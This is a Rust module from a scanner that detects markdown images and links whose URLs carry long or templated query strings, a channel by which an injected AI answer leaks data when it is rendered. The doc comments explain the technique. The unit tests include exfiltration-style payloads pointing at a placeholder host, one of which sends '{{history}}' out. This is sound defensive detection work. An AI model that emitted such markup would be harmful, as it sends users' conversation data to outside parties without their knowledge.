//! Markup by which an answer carries data out when it is shown: an image or link whose address has a long query.

use casemate_finding::Span;

use super::Match;
use crate::Channel;

/// `(rule, weight)`: an image is fetched without a click.
pub(super) const RULES: [(&str, f32); 2] = [("injection/exfil-image", 0.5), ("injection/exfil-link", 0.25)];
/// Longest address that is looked at, in bytes.
const URL_BYTES_MAX: usize = 2048;
/// Shortest query that could carry something.
const QUERY_BYTES_MIN: usize = 8;
const MATCHES_MAX: usize = 8;

pub(super) fn matches(text: &str, channel: Channel, out: &mut Vec<Match>) {
    if channel == Channel::Chat {
        return;
    }
    for (at, _) in text.match_indices("](http").take(MATCHES_MAX) {
        let url = &text.as_bytes()[at + 2..];
        let end = url.iter().take(URL_BYTES_MAX).position(|b| matches!(b, b')' | b' ' | b'\n')).unwrap_or(0);
        let Some(query) = url[..end].iter().position(|b| *b == b'?') else { continue };
        let query = &url[query..end];
        // A placeholder to fill in, or a value as long as a message.
        let template = query.windows(2).any(|w| matches!(w, b"{{" | b"${" | b"=<" | b"=[" | b"={"));
        if !template && (query.len() < QUERY_BYTES_MIN || longest_value(query) < 40) {
            continue;
        }
        let open = text.as_bytes()[..at].iter().rposition(|b| *b == b'[').unwrap_or(at);
        let image = open > 0 && text.as_bytes()[open - 1] == b'!';
        let (rule, weight) = RULES[usize::from(!image)];
        let start = open - usize::from(image);
        out.push(Match { rule, span: Span::new(start, at + 2 + end), weight });
    }
}

fn longest_value(query: &[u8]) -> usize {
    query.split(|b| matches!(b, b'&' | b'?' | b'=')).map(<[u8]>::len).max().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::matches;
    use crate::Channel;

    fn rules(text: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        matches(text, Channel::Output, &mut out);
        out.iter().map(|m| m.rule).collect()
    }

    #[test]
    fn images_with_room_for_data() {
        let data = "a".repeat(40);
        assert_eq!(rules(&format!("![x](https://e.example/p?d={data})")), ["injection/exfil-image"]);
        assert_eq!(rules("![x](https://e.example/p?d={{history}})"), ["injection/exfil-image"]);
        assert_eq!(rules(&format!("[see](https://e.example/p?d={data})")), ["injection/exfil-link"]);
        assert_eq!(rules(&format!("![x](https://e.example/p?d={})", &data[1..])), [""; 0]);
        assert_eq!(rules("![build](https://e.example/badge.svg?branch=main)"), [""; 0]);
        assert_eq!(rules("](http"), [""; 0]);
    }
}
